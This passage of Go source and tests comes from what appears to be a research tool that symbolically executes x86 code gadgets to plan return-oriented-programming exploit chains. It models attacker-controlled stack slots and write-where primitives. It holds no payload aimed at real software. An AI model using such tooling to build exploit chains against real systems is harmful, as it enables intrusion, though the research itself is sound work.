			return nil, unsupported("partially overlapping stack read at %d", off)
		}
	}
	seen := false
	for i := range s.inputs {
		in := &s.inputs[i]
		if in.off == off {
			if in.size != size {
				return nil, unsupported("stack slot %d read at sizes %d and %d", off, in.size, size)
			}
			seen = true
		} else if overlap(off, size, in.off, in.size) {
			return nil, unsupported("overlapping stack input at %d", off)
		}
	}
	if !seen {
		s.inputs = append(s.inputs, stackInput{off: off, size: size})
	}
	v := s.stackVar(off)
	if size == 8 {
		return v, nil
	}
	return s.B.And(v, s.c(maskOf(size))), nil
}

// stackVar interns the attacker-input variable for a stack offset, memoized
// so repeated reads of common offsets skip the name formatting and string
// hashing inside Builder.Var.
func (s *State) stackVar(off int64) *expr.Node {
	if v, ok := s.stackVars[off]; ok {
		return v
	}
	if s.stackVars == nil {
		s.stackVars = make(map[int64]*expr.Node)
	}
	v := s.B.Var(StackVarName(off), 64)
	s.stackVars[off] = v
	return v
}

// writeStack stores size bytes at a constant stack offset.
func (s *State) writeStack(off int64, size uint8, v *expr.Node) error {
	for i := range s.writes {
		if w := &s.writes[i]; w.off != off && overlap(off, size, w.off, w.size) {
			return unsupported("partially overlapping stack write at %d", off)
		}
	}
	for i := range s.writes {
		if w := &s.writes[i]; w.off == off {
			if w.size != size {
				return unsupported("stack slot %d written at sizes %d and %d", off, w.size, size)
			}
			w.val = v
			return nil
		}
	}
	s.writes = append(s.writes, stackWrite{off: off, val: v, size: size})
	return nil
}

func maskOf(size uint8) uint64 {
	switch size {
	case 1:
		return 0xFF
	case 2:
		return 0xFFFF
	case 4:
		return 0xFFFF_FFFF
	default:
		return ^uint64(0)
	}
}

// effAddr computes a memory operand's effective address expression.
func (s *State) effAddr(m isa.Mem, instEnd uint64) *expr.Node {
	if m.RIPRel {
		return s.c(instEnd + uint64(int64(m.Disp)))
	}
	ea := s.c(0)
	if m.HasBase {
		ea = s.Regs[m.Base]
	}
	if m.HasIndex {
		ea = s.B.Add(ea, s.B.Mul(s.Regs[m.Index], s.c(uint64(m.Scale))))
	}
	return s.B.Add(ea, s.c(uint64(int64(m.Disp))))
}

// readOperand produces a 64-bit expression masked to the operand size.
func (s *State) readOperand(op isa.Operand, size uint8, instEnd uint64) (*expr.Node, error) {
	switch op.Kind {
	case isa.KindReg:
		if size == 8 {
			return s.Regs[op.Reg], nil
		}
		return s.B.And(s.Regs[op.Reg], s.c(maskOf(size))), nil
	case isa.KindImm:
		return s.c(uint64(op.Imm) & maskOf(size)), nil
	case isa.KindMem:
		ea := s.effAddr(op.Mem, instEnd)
		off, err := s.stackOffsetOf(ea)
		if err == nil {
			return s.readStack(off, size)
		}
		return s.readDeref(ea, size)
	}
	return nil, unsupported("empty operand read")
}

// maxDerefs bounds controlled-memory accesses per gadget; beyond this the
// concretization constraints rarely stay satisfiable.
const maxDerefs = 4

// derefAddrOK checks an effective address is attacker-determined: built
// only from entry registers and attacker-chosen values.
func (s *State) derefAddrOK(ea *expr.Node) bool {
	for _, v := range s.vc.Collect(ea) {
		if IsAttackerVar(v.Name) {
			continue
		}
		if _, ok := IsRegVar(v.Name); ok {
			continue
		}
		return false
	}
	return true
}

// readDeref models a load through an attacker-determined pointer: the
// result is a fresh unconstrained variable; the planner must arrange for
// the address to point into controlled memory.
func (s *State) readDeref(ea *expr.Node, size uint8) (*expr.Node, error) {
	if !s.derefAddrOK(ea) || len(s.memReads)+len(s.memWrites) >= maxDerefs {
		return nil, unsupported("memory access outside the stack")
	}
	// Reject reads that may alias an earlier controlled-memory write (the
	// fresh-variable model would be wrong for them).
	for _, w := range s.memWrites {
		diff := s.B.Sub(ea, w.Addr)
		if diff.IsConst() {
			d := int64(diff.Val)
			if d < int64(w.Size) && d > -int64(size) {
				return nil, unsupported("read aliases earlier controlled write")
			}
		}
	}
	v := s.B.Var(DerefVarName(len(s.memReads)), 64)
	s.memReads = append(s.memReads, MemAccess{Addr: ea, Val: v, Size: size})
	if size == 8 {
		return v, nil
	}
	return s.B.And(v, s.c(maskOf(size))), nil
}

func (s *State) writeOperand(op isa.Operand, size uint8, v *expr.Node, instEnd uint64) error {
	switch op.Kind {
	case isa.KindReg:
		if s.hasZero && op.Reg == s.zero {
			return nil // writes to the hardwired zero register vanish
		}
		switch size {
		case 8:
			s.Regs[op.Reg] = v
		case 4:
			s.Regs[op.Reg] = s.B.And(v, s.c(0xFFFF_FFFF))
		case 1:
			s.Regs[op.Reg] = s.B.Or(
				s.B.And(s.Regs[op.Reg], s.c(^uint64(0xFF))),
				s.B.And(v, s.c(0xFF)),
			)
		}
		return nil
	case isa.KindMem:
		ea := s.effAddr(op.Mem, instEnd)
		off, err := s.stackOffsetOf(ea)
		if err == nil {
			return s.writeStack(off, size, v)
		}
		// Write through an attacker-determined pointer: a write-where
		// primitive aimed at scratch payload memory.
		if !s.derefAddrOK(ea) || len(s.memReads)+len(s.memWrites) >= maxDerefs {
			return unsupported("memory write outside the stack")
		}
		s.memWrites = append(s.memWrites, MemAccess{Addr: ea, Val: v, Size: size})
		return nil
	}
	return unsupported("write to non-lvalue")
}

// msb returns the boolean "bit w-1 of v is set" for the operand size.
func (s *State) msb(v *expr.Node, size uint8) *expr.Node {
	bit := uint64(1) << (uint(size)*8 - 1)
	return s.B.Ne(s.B.And(v, s.c(bit)), s.c(0))
}

// parity returns the even-parity boolean of the low byte.
func (s *State) parity(v *expr.Node) *expr.Node {
	low := s.B.And(v, s.c(0xFF))
	// Fold the byte: x ^= x>>4; x ^= x>>2; x ^= x>>1; parity even = bit0==0.
	x := low
	for _, sh := range []uint64{4, 2, 1} {
		x = s.B.Xor(x, s.B.Lshr(x, s.c(sh)))
	}
	return s.B.Eq(s.B.And(x, s.c(1)), s.c(0))
}

func (s *State) setPZS(r *expr.Node, size uint8) {
	masked := s.B.And(r, s.c(maskOf(size)))
	s.ZF = s.B.Eq(masked, s.c(0))
	s.SF = s.msb(masked, size)
	s.PF = s.parity(masked)
}

// opaqueFlag returns a fresh unconstrained boolean. Conditions built from it
// can never be satisfied by planning, which conservatively removes gadgets
// whose usability depends on flag bits we do not model exactly.
func (s *State) opaqueFlag(tag string) *expr.Node {
	s.opaque++
	return s.B.Var(fmt.Sprintf("opq_%s_%d", tag, s.opaque), expr.BoolWidth)
}

// cond builds the boolean for an x86 condition code from the current flags.
func (s *State) cond(c isa.Cond) *expr.Node {
	b := s.B
	switch c {
	case isa.CondO:
		return s.OF
	case isa.CondNO:
		return b.BNot(s.OF)
	case isa.CondB:
		return s.CF
	case isa.CondAE:
		return b.BNot(s.CF)
	case isa.CondE:
		return s.ZF
	case isa.CondNE:
		return b.BNot(s.ZF)
	case isa.CondBE:
		return b.BOr(s.CF, s.ZF)
	case isa.CondA:
		return b.BAnd(b.BNot(s.CF), b.BNot(s.ZF))
	case isa.CondS:
		return s.SF
	case isa.CondNS:
		return b.BNot(s.SF)
	case isa.CondP:
		return s.PF
	case isa.CondNP:
		return b.BNot(s.PF)
	case isa.CondL:
		return b.BNot(b.Eq(s.SF, s.OF))
	case isa.CondGE:
		return b.Eq(s.SF, s.OF)
	case isa.CondLE:
		return b.BOr(s.ZF, b.BNot(b.Eq(s.SF, s.OF)))
	default: // CondG
		return b.BAnd(b.BNot(s.ZF), b.Eq(s.SF, s.OF))
	}
}
