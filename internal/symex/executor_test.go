package symex

import (
	"reflect"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/expr"
)

// TestExecutorMatchesExec pins the reusable Executor against the one-shot
// Exec on paths exercising every Effect collection — register writes, stack
// writes and inputs, memory accesses, path conditions, indirect-jump
// next-RIP — plus an unsupported path, interleaved so scratch reuse after
// both success and failure is covered. Both run against the same builder,
// so intern-equal effects are DeepEqual down to node pointers.
func TestExecutorMatchesExec(t *testing.T) {
	srcs := []string{
		"pop rdi; ret",
		"pop rbp; mov edi, 0x601030; jmp rax",
		"mov rbx, [rsp]; push rax; ret",
		"cmp rdx, rbx; jne 0x1010; pop rbx; ret",
		"mov [rax], rcx; call rdx",
		"cqo; idiv rbx; ret", // unsupported: both sides must error
		"xchg rax, rsp; ret",
		"pop rax; syscall",
	}
	b := expr.NewBuilder()
	ex := NewExecutor(b)
	// Two rounds: round two proves a used executor resets cleanly.
	for round := 0; round < 2; round++ {
		for _, src := range srcs {
			steps := decodeSteps(t, src)
			want, werr := Exec(b, steps)
			got, gerr := ex.Exec(steps)
			if (werr == nil) != (gerr == nil) {
				t.Fatalf("round %d %q: Exec err=%v, Executor err=%v", round, src, werr, gerr)
			}
			if werr != nil {
				continue
			}
			if !reflect.DeepEqual(got, want) {
				t.Errorf("round %d %q: effects differ\n exec:     %+v\n executor: %+v", round, src, want, got)
			}
		}
	}
}

// TestExecutorEffectsAreIndependent verifies that effects returned by a
// reused executor do not alias its scratch: a later run must not mutate an
// earlier run's result.
func TestExecutorEffectsAreIndependent(t *testing.T) {
	b := expr.NewBuilder()
	ex := NewExecutor(b)
	steps := decodeSteps(t, "cmp rdx, rbx; jne 0x1010; pop rbx; pop rdi; ret")
	first, err := ex.Exec(steps)
	if err != nil {
		t.Fatal(err)
	}
	snapshot := *first
	snapConds := append([]*expr.Node(nil), first.Conds...)
	if _, err := ex.Exec(decodeSteps(t, "push rax; push rbx; mov rcx, [rsp]; ret")); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(first.Conds, snapConds) {
		t.Error("reuse mutated an earlier effect's Conds")
	}
	if first.StackDelta != snapshot.StackDelta || first.End != snapshot.End ||
		first.NextRIP != snapshot.NextRIP {
		t.Error("reuse mutated an earlier effect's scalars")
	}
}
