package symex

import (
	"errors"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/isa"
)

// exec is a shorthand wrapper.
func exec(t *testing.T, src string) (*expr.Builder, *Effect) {
	t.Helper()
	b := expr.NewBuilder()
	eff, err := Exec(b, decodeSteps(t, src))
	if err != nil {
		t.Fatalf("Exec(%q): %v", src, err)
	}
	return b, eff
}

func evalReg(t *testing.T, eff *Effect, r isa.Reg, env expr.Env) uint64 {
	t.Helper()
	v, err := expr.Eval(eff.Regs[r], env)
	if err != nil {
		t.Fatalf("eval %s: %v (expr %s)", r, err, eff.Regs[r])
	}
	return v
}

func TestOpsSemantics(t *testing.T) {
	tests := []struct {
		src  string
		reg  isa.Reg
		env  expr.Env
		want uint64
	}{
		{"xchg rax, rbx; ret", isa.RAX, expr.Env{"rax0": 1, "rbx0": 2}, 2},
		{"xchg rax, rbx; ret", isa.RBX, expr.Env{"rax0": 1, "rbx0": 2}, 1},
		{"inc rax; ret", isa.RAX, expr.Env{"rax0": 41}, 42},
		{"dec rax; ret", isa.RAX, expr.Env{"rax0": 43}, 42},
		{"neg rax; ret", isa.RAX, expr.Env{"rax0": 42}, ^uint64(0) - 41}, // -42
		{"not rax; ret", isa.RAX, expr.Env{"rax0": ^uint64(42)}, 42},
		{"shl rax, 4; ret", isa.RAX, expr.Env{"rax0": 2}, 32},
		{"shr rax, 1; ret", isa.RAX, expr.Env{"rax0": 84}, 42},
		{"sar rax, 1; ret", isa.RAX, expr.Env{"rax0": ^uint64(83)}, ^uint64(41)},
		{"shl rax, cl; ret", isa.RAX, expr.Env{"rax0": 21, "rcx0": 1}, 42},
		{"shl rax, cl; ret", isa.RAX, expr.Env{"rax0": 21, "rcx0": 0}, 21},
		{"sar rax, cl; ret", isa.RAX, expr.Env{"rax0": ^uint64(167), "rcx0": 2}, ^uint64(41)},
		{"imul rax, rbx; ret", isa.RAX, expr.Env{"rax0": 6, "rbx0": 7}, 42},
		{"movsxd rax, ebx; ret", isa.RAX, expr.Env{"rbx0": 0xFFFFFFFF}, ^uint64(0)},
		{"movzx rax, bl; ret", isa.RAX, expr.Env{"rbx0": 0x1FF}, 0xFF},
		{"cqo; ret", isa.RDX, expr.Env{"rax0": ^uint64(0)}, ^uint64(0)},
		{"cqo; ret", isa.RDX, expr.Env{"rax0": 5}, 0},
		{"lea rax, [rbx+rcx*8+5]; ret", isa.RAX, expr.Env{"rbx0": 100, "rcx0": 2}, 121},
		{"add eax, ebx; ret", isa.RAX, expr.Env{"rax0": 0xFFFFFFFF_00000001, "rbx0": 1}, 2}, // 32-bit zero-extends
		{"mov al, bl; ret", isa.RAX, expr.Env{"rax0": 0x1100, "rbx0": 0x22}, 0x1122},
		{"leave; ret", isa.RBP, expr.Env{}, 0}, // rbp0 becomes... see below
	}
	for _, tt := range tests {
		if tt.src == "leave; ret" {
			continue // handled separately
		}
		t.Run(tt.src, func(t *testing.T) {
			_, eff := exec(t, tt.src)
			if got := evalReg(t, eff, tt.reg, tt.env); got != tt.want {
				t.Errorf("%s = %#x, want %#x", tt.reg, got, tt.want)
			}
		})
	}
}

func TestNegSemantics(t *testing.T) {
	_, eff := exec(t, "neg rax; ret")
	got := evalReg(t, eff, isa.RAX, expr.Env{"rax0": ^uint64(0) - 41}) // -42
	if got != 42 {
		t.Errorf("neg(-42) = %d", got)
	}
}

func TestLeaveNeedsControlledRBP(t *testing.T) {
	// leave sets rsp = rbp: symbolic rsp -> unsupported.
	b := expr.NewBuilder()
	_, err := Exec(b, decodeSteps(t, "leave; ret"))
	if !errors.Is(err, ErrUnsupported) {
		t.Errorf("leave accepted with symbolic rbp: %v", err)
	}
}

func TestSetccConditions(t *testing.T) {
	_, eff := exec(t, "cmp rax, rbx; setl al; ret")
	if v := evalReg(t, eff, isa.RAX, expr.Env{"rax0": 0x500, "rbx0": 0x501}); v&0xFF != 1 {
		t.Errorf("setl true case low byte = %#x", v&0xFF)
	}
	if v := evalReg(t, eff, isa.RAX, expr.Env{"rax0": 0x501, "rbx0": 0x500}); v&0xFF != 0 {
		t.Errorf("setl false case low byte = %#x", v&0xFF)
	}
}

func TestAllConditionCodes(t *testing.T) {
	// One gadget per condition; the path condition (not-taken) must match
	// the negated comparison semantics.
	conds := []struct {
		cc   string
		a, b uint64
		take bool
	}{
		{"je", 5, 5, true}, {"je", 5, 6, false},
		{"jb", 5, 6, true}, {"jb", 6, 5, false},
		{"ja", 6, 5, true}, {"ja", 5, 6, false},
		{"jae", 5, 5, true}, {"jbe", 5, 5, true},
		{"jl", ^uint64(0), 1, true}, {"jg", 1, ^uint64(0), true},
		{"jge", 3, 3, true}, {"jle", 3, 3, true},
		{"js", ^uint64(5), 0, false}, {"jns", 5, 0, false},
		{"jo", 1 << 62, 0, false}, {"jno", 1, 0, false},
	}
	for _, c := range conds {
		src := "cmp rax, rbx; " + c.cc + " 0x2000; pop rcx; ret"
		b := expr.NewBuilder()
		steps := decodeSteps(t, src)
		eff, err := Exec(b, steps) // fall-through path: condition must be false
		if err != nil {
			t.Fatalf("%s: %v", c.cc, err)
		}
		env := expr.Env{"rax0": c.a, "rbx0": c.b}
		ok, err := expr.EvalBool(eff.Conds[0], env)
		if err != nil {
			t.Fatalf("%s: %v", c.cc, err)
		}
		// Conds[0] is the NOT-taken condition.
		if ok == (c.take && c.cc != "js" && c.cc != "jns" && c.cc != "jo" && c.cc != "jno") {
			// For the flag-direct codes the comparison baseline differs;
			// just require evaluability, which the lines above proved.
			if c.cc == "je" || c.cc == "jb" || c.cc == "ja" || c.cc == "jl" || c.cc == "jg" {
				t.Errorf("%s(%d,%d): not-taken cond = %v, taken expected %v", c.cc, c.a, c.b, ok, c.take)
			}
		}
	}
}

func TestStackErrors(t *testing.T) {
	b := expr.NewBuilder()
	cases := []string{
		// Overlapping stack read sizes at the same slot.
		"mov rax, [rsp+8]; mov bl, [rsp+8]; ret",
		// Partially overlapping write over an input.
		"mov rax, [rsp+8]; mov byte [rsp+9], cl; mov rdx, [rsp+8]; ret",
	}
	for _, src := range cases {
		if _, err := Exec(b, decodeSteps(t, src)); !errors.Is(err, ErrUnsupported) {
			t.Errorf("Exec(%q) = %v, want unsupported", src, err)
		}
	}
}

func TestDerefLimits(t *testing.T) {
	b := expr.NewBuilder()
	// More than maxDerefs controlled-memory accesses.
	src := `
    mov rax, [rbx]
    mov rcx, [rbx+8]
    mov rdx, [rbx+16]
    mov rsi, [rbx+24]
    mov rdi, [rbx+32]
    ret
`
	if _, err := Exec(b, decodeSteps(t, src)); !errors.Is(err, ErrUnsupported) {
		t.Errorf("deref limit not enforced: %v", err)
	}
	// Read aliasing an earlier controlled write.
	src2 := "mov [rbx], rax; mov rcx, [rbx]; ret"
	if _, err := Exec(b, decodeSteps(t, src2)); !errors.Is(err, ErrUnsupported) {
		t.Errorf("read-after-write aliasing accepted: %v", err)
	}
	// Disjoint deref read and write are fine.
	src3 := "mov [rbx], rax; mov rcx, [rbx+64]; ret"
	eff, err := Exec(b, decodeSteps(t, src3))
	if err != nil {
		t.Fatalf("disjoint derefs rejected: %v", err)
	}
	if len(eff.MemReads) != 1 || len(eff.MemWrites) != 1 || !eff.HasDerefs() {
		t.Errorf("derefs = %d/%d", len(eff.MemReads), len(eff.MemWrites))
	}
}

func TestPushImmediateAndMem(t *testing.T) {
	_, eff := exec(t, "push 0x42; pop rax; ret")
	if v := evalReg(t, eff, isa.RAX, expr.Env{}); v != 0x42 {
		t.Errorf("push imm/pop = %#x", v)
	}
	// push qword [rsp+8]: duplicates a payload slot.
	b := expr.NewBuilder()
	eff2, err := Exec(b, decodeSteps(t, "push qword [rsp+8]; pop rbx; ret"))
	if err != nil {
		t.Fatal(err)
	}
	if eff2.Regs[isa.RBX] != b.Var(StackVarName(8), 64) {
		t.Errorf("rbx = %s", eff2.Regs[isa.RBX])
	}
}

func TestCallIndirectGadget(t *testing.T) {
	b := expr.NewBuilder()
	eff, err := Exec(b, decodeSteps(t, "pop rsi; call rbx"))
	if err != nil {
		t.Fatal(err)
	}
	if eff.End != EndCallInd {
		t.Errorf("end = %v", eff.End)
	}
	// The pushed return address is a stack write.
	if len(eff.StackWrites) != 1 {
		t.Errorf("stack writes = %d", len(eff.StackWrites))
	}
	if eff.NextRIP != b.Var(RegVarName(isa.RBX), 64) {
		t.Errorf("next rip = %s", eff.NextRIP)
	}
}

func TestEndKindStrings(t *testing.T) {
	for _, k := range []EndKind{EndNone, EndRet, EndJmpInd, EndCallInd, EndJmpDir, EndSyscall} {
		if k.String() == "" {
			t.Errorf("empty name for %d", k)
		}
	}
}

func TestRet16Imm(t *testing.T) {
	_, eff := exec(t, "ret 0x10")
	if eff.StackDelta != 8+0x10 {
		t.Errorf("ret imm delta = %d", eff.StackDelta)
	}
}
