package symex

import (
	"errors"
	"math/rand"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/asm"
	"github.com/nofreelunch/gadget-planner/internal/emu"
	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/isa"
)

// decodeSteps assembles src and wraps every instruction in a Step.
func decodeSteps(t *testing.T, src string) []Step {
	t.Helper()
	r, err := asm.Assemble(src, 0x1000)
	if err != nil {
		t.Fatal(err)
	}
	var steps []Step
	pos := 0
	for pos < len(r.Code) {
		inst, err := isa.Decode(r.Code[pos:], 0x1000+uint64(pos))
		if err != nil {
			t.Fatal(err)
		}
		steps = append(steps, Step{Inst: inst})
		pos += int(inst.Len)
	}
	return steps
}

func TestPopRet(t *testing.T) {
	b := expr.NewBuilder()
	eff, err := Exec(b, decodeSteps(t, "pop rdi; ret"))
	if err != nil {
		t.Fatal(err)
	}
	if eff.End != EndRet {
		t.Errorf("end = %v", eff.End)
	}
	if eff.StackDelta != 16 {
		t.Errorf("delta = %d, want 16", eff.StackDelta)
	}
	if got := eff.Regs[isa.RDI]; got != b.Var(StackVarName(0), 64) {
		t.Errorf("rdi = %s, want stk_0", got)
	}
	if got := eff.NextRIP; got != b.Var(StackVarName(8), 64) {
		t.Errorf("nextRIP = %s, want stk_8", got)
	}
	if len(eff.Conds) != 0 {
		t.Errorf("conds = %v", eff.Conds)
	}
	if eff.Inputs[0] != 8 || eff.Inputs[8] != 8 {
		t.Errorf("inputs = %v", eff.Inputs)
	}
}

func TestJmpRegGadget(t *testing.T) {
	b := expr.NewBuilder()
	eff, err := Exec(b, decodeSteps(t, "pop rbp; mov edi, 0x601030; jmp rax"))
	if err != nil {
		t.Fatal(err)
	}
	if eff.End != EndJmpInd {
		t.Errorf("end = %v", eff.End)
	}
	if eff.NextRIP != b.Var(RegVarName(isa.RAX), 64) {
		t.Errorf("nextRIP = %s", eff.NextRIP)
	}
	if v, err := expr.Eval(eff.Regs[isa.RDI], expr.Env{}); err != nil || v != 0x601030 {
		t.Errorf("rdi = %s", eff.Regs[isa.RDI])
	}
	if eff.StackDelta != 8 {
		t.Errorf("delta = %d", eff.StackDelta)
	}
}

// The paper's Fig. 4(b): a conditional jump inside the gadget that must not
// be taken, yielding pre-condition rdx == rbx.
func TestConditionalGadgetFig4b(t *testing.T) {
	src := `
    pop rax
    mov rdx, rbx
    cmp rdx, rbx
    jne 0x2000
    pop rbx
    ret
`
	// Make the condition non-trivial: compare two different registers.
	src = `
    pop rax
    cmp rdx, rbx
    jne 0x2000
    pop rbx
    ret
`
	b := expr.NewBuilder()
	steps := decodeSteps(t, src)
	eff, err := Exec(b, steps) // all Taken=false: fall through the jne
	if err != nil {
		t.Fatal(err)
	}
	if len(eff.Conds) != 1 {
		t.Fatalf("conds = %v", eff.Conds)
	}
	// The pre-condition must hold exactly when rdx0 == rbx0.
	envEq := expr.Env{"rdx0": 7, "rbx0": 7}
	envNe := expr.Env{"rdx0": 7, "rbx0": 8}
	if ok, err := expr.EvalBool(eff.Conds[0], envEq); err != nil || !ok {
		t.Errorf("cond false under rdx==rbx: %v %v", ok, err)
	}
	if ok, err := expr.EvalBool(eff.Conds[0], envNe); err != nil || ok {
		t.Errorf("cond true under rdx!=rbx: %v %v", ok, err)
	}
	if eff.StackDelta != 24 {
		t.Errorf("delta = %d", eff.StackDelta)
	}
}

// Fig. 4(c): the conditional jump must be taken to reach the second half.
func TestConditionalGadgetTaken(t *testing.T) {
	r := asm.MustAssemble("pop rax; test rcx, rcx; jz 0x2000", 0x1000)
	var steps []Step
	pos := 0
	for pos < len(r.Code) {
		inst, err := isa.Decode(r.Code[pos:], 0x1000+uint64(pos))
		if err != nil {
			t.Fatal(err)
		}
		steps = append(steps, Step{Inst: inst, Taken: true})
		pos += int(inst.Len)
	}
	b := expr.NewBuilder()
	eff, err := Exec(b, steps)
	if err != nil {
		t.Fatal(err)
	}
	if len(eff.Conds) != 1 {
		t.Fatalf("conds = %v", eff.Conds)
	}
	if ok, _ := expr.EvalBool(eff.Conds[0], expr.Env{"rcx0": 0}); !ok {
		t.Error("taken condition should hold when rcx==0")
	}
	if ok, _ := expr.EvalBool(eff.Conds[0], expr.Env{"rcx0": 5}); ok {
		t.Error("taken condition should fail when rcx!=0")
	}
	if v, err := expr.Eval(eff.NextRIP, expr.Env{}); err != nil || v != 0x2000 {
		t.Errorf("nextRIP = %s", eff.NextRIP)
	}
}

func TestUnsupportedGadgets(t *testing.T) {
	b := expr.NewBuilder()
	cases := []string{
		"mov rsp, rax; ret",  // symbolic rsp
		"cqo; idiv rbx; ret", // division
		"add rax, rbx",       // no terminal branch
	}
	for _, src := range cases {
		_, err := Exec(b, decodeSteps(t, src))
		if !errors.Is(err, ErrUnsupported) {
			t.Errorf("Exec(%q) err = %v, want unsupported", src, err)
		}
	}
}

func TestStackWriteThenRead(t *testing.T) {
	b := expr.NewBuilder()
	eff, err := Exec(b, decodeSteps(t, "push rax; pop rbx; ret"))
	if err != nil {
		t.Fatal(err)
	}
	if eff.Regs[isa.RBX] != b.Var(RegVarName(isa.RAX), 64) {
		t.Errorf("rbx = %s, want rax0", eff.Regs[isa.RBX])
	}
	if eff.StackDelta != 8 { // push-pop cancels; ret consumes 8
		t.Errorf("delta = %d", eff.StackDelta)
	}
}

func TestSyscallGadget(t *testing.T) {
	b := expr.NewBuilder()
	eff, err := Exec(b, decodeSteps(t, "pop rax; syscall"))
	if err != nil {
		t.Fatal(err)
	}
	if eff.End != EndSyscall {
		t.Errorf("end = %v", eff.End)
	}
	if eff.NextRIP != nil {
		t.Errorf("nextRIP = %v", eff.NextRIP)
	}
}

func TestVarNames(t *testing.T) {
	if got := StackVarName(-16); got != "stk_m16" {
		t.Errorf("StackVarName(-16) = %q", got)
	}
	for _, off := range []int64{-24, -8, 0, 8, 1000} {
		got, ok := ParseStackVar(StackVarName(off))
		if !ok || got != off {
			t.Errorf("ParseStackVar round trip failed for %d: %d %v", off, got, ok)
		}
	}
	if _, ok := ParseStackVar("rax0"); ok {
		t.Error("ParseStackVar accepted rax0")
	}
	r, ok := IsRegVar("rdi0")
	if !ok || r != isa.RDI {
		t.Errorf("IsRegVar(rdi0) = %v %v", r, ok)
	}
	if _, ok := IsRegVar("stk_8"); ok {
		t.Error("IsRegVar accepted stk_8")
	}
}

// TestDifferentialAgainstEmulator is the keystone test: random gadgets are
// executed both symbolically and concretely, and the symbolic effect
// evaluated under the concrete initial state must reproduce the emulator's
// final state exactly.
func TestDifferentialAgainstEmulator(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	const iters = 600
	regs := []isa.Reg{isa.RAX, isa.RCX, isa.RDX, isa.RBX, isa.RBP, isa.RSI, isa.RDI, isa.R8, isa.R12}
	pick := func() isa.Reg { return regs[rng.Intn(len(regs))] }

	for iter := 0; iter < iters; iter++ {
		// Generate a random gadget body.
		n := 1 + rng.Intn(5)
		var insts []isa.Inst
		for i := 0; i < n; i++ {
			switch rng.Intn(14) {
			case 0:
				insts = append(insts, isa.Inst{Op: isa.OpPop, A: isa.RegOp(pick())})
			case 1:
				insts = append(insts, isa.Inst{Op: isa.OpPush, A: isa.RegOp(pick())})
			case 2:
				insts = append(insts, isa.Inst{Op: isa.OpMov, Size: 8, A: isa.RegOp(pick()), B: isa.RegOp(pick())})
			case 3:
				insts = append(insts, isa.Inst{Op: isa.OpMov, Size: 8, A: isa.RegOp(pick()), B: isa.ImmOp(rng.Int63())})
			case 4:
				ops := []isa.Op{isa.OpAdd, isa.OpSub, isa.OpXor, isa.OpAnd, isa.OpOr}
				insts = append(insts, isa.Inst{Op: ops[rng.Intn(len(ops))], Size: 8, A: isa.RegOp(pick()), B: isa.RegOp(pick())})
			case 5:
				insts = append(insts, isa.Inst{Op: isa.OpMov, Size: 8, A: isa.RegOp(pick()), B: isa.MemOp(isa.RSP, int32(8*rng.Intn(4)))})
			case 6:
				insts = append(insts, isa.Inst{Op: isa.OpMov, Size: 8, A: isa.MemOp(isa.RSP, int32(8*rng.Intn(4))), B: isa.RegOp(pick())})
			case 7:
				insts = append(insts, isa.Inst{Op: isa.OpInc, Size: 8, A: isa.RegOp(pick())})
			case 8:
				insts = append(insts, isa.Inst{Op: isa.OpNot, Size: 8, A: isa.RegOp(pick())})
			case 9:
				insts = append(insts, isa.Inst{Op: isa.OpNeg, Size: 8, A: isa.RegOp(pick())})
			case 10:
				insts = append(insts, isa.Inst{Op: isa.OpXchg, Size: 8, A: isa.RegOp(pick()), B: isa.RegOp(pick())})
			case 11:
				insts = append(insts, isa.Inst{Op: isa.OpLea, Size: 8, A: isa.RegOp(pick()), B: isa.MemOpIdx(pick(), isa.RBX, 2, int32(rng.Intn(64)))})
			case 12:
				insts = append(insts, isa.Inst{Op: isa.OpCmp, Size: 8, A: isa.RegOp(pick()), B: isa.RegOp(pick())})
			case 13:
				insts = append(insts, isa.Inst{Op: isa.OpXor, Size: 4, A: isa.RegOp(pick()), B: isa.RegOp(pick())})
			}
		}
		// Optionally add a cmp+jcc pair in the middle (branch within gadget).
		hasJcc := rng.Intn(3) == 0
		insts = append(insts, isa.Inst{Op: isa.OpRet})

		// Encode at base.
		const base = uint64(0x10000)
		var code []byte
		var addrs []uint64
		ok := true
		for _, inst := range insts {
			addrs = append(addrs, base+uint64(len(code)))
			enc, err := isa.Encode(inst, base+uint64(len(code)))
			if err != nil {
				ok = false
				break
			}
			code = append(code, enc...)
		}
		if !ok {
			continue
		}
		_ = hasJcc

		// Concrete machine setup.
		m := emu.NewMachine()
		m.Mem.Map(base, uint64(len(code)+16), emu.PermRead|emu.PermExec)
		m.Mem.WriteBytesForce(base, code, emu.PermRead|emu.PermExec)
		const stackBase = uint64(0x7FF0_0000)
		m.Mem.Map(stackBase, 0x4000, emu.PermRead|emu.PermWrite)
		rsp0 := stackBase + 0x2000
		initStack := make([]byte, 0x400)
		rng.Read(initStack)
		if err := m.Mem.WriteBytes(rsp0-0x200, initStack); err != nil {
			t.Fatal(err)
		}
		var initRegs [isa.MaxRegs]uint64
		for r := range initRegs {
			initRegs[r] = rng.Uint64()
		}
		initRegs[isa.RSP] = rsp0
		m.Regs = initRegs
		m.RIP = base

		// Run concretely, one step per instruction.
		var steps []Step
		emuFailed := false
		for i := range insts {
			inst, err := isa.Decode(code[m.RIP-base:], m.RIP)
			if err != nil {
				t.Fatalf("iter %d: decode: %v", iter, err)
			}
			_ = inst
			_ = i
			if _, err := m.Step(); err != nil {
				emuFailed = true
				break
			}
		}
		if emuFailed {
			continue
		}
		for i, inst := range insts {
			steps = append(steps, Step{Inst: withAddr(inst, addrs[i], code, base)})
		}

		// Symbolic execution.
		b := expr.NewBuilder()
		eff, err := Exec(b, steps)
		if errors.Is(err, ErrUnsupported) {
			continue
		}
		if err != nil {
			t.Fatalf("iter %d: symex: %v", iter, err)
		}

		// Build the evaluation environment from the concrete initial state.
		env := expr.Env{}
		for r := isa.Reg(0); r < isa.NumRegs; r++ {
			env[RegVarName(r)] = initRegs[r]
		}
		env["zf0"], env["sf0"], env["of0"], env["cf0"], env["pf0"] = 0, 0, 0, 0, 0
		for off, size := range eff.Inputs {
			// Read from the pre-execution snapshot: inputs are the values
			// that were on the stack when the gadget started.
			idx := int(off) + 0x200
			if idx < 0 || idx+8 > len(initStack) {
				t.Fatalf("iter %d: input offset %d outside snapshot", iter, off)
			}
			var v uint64
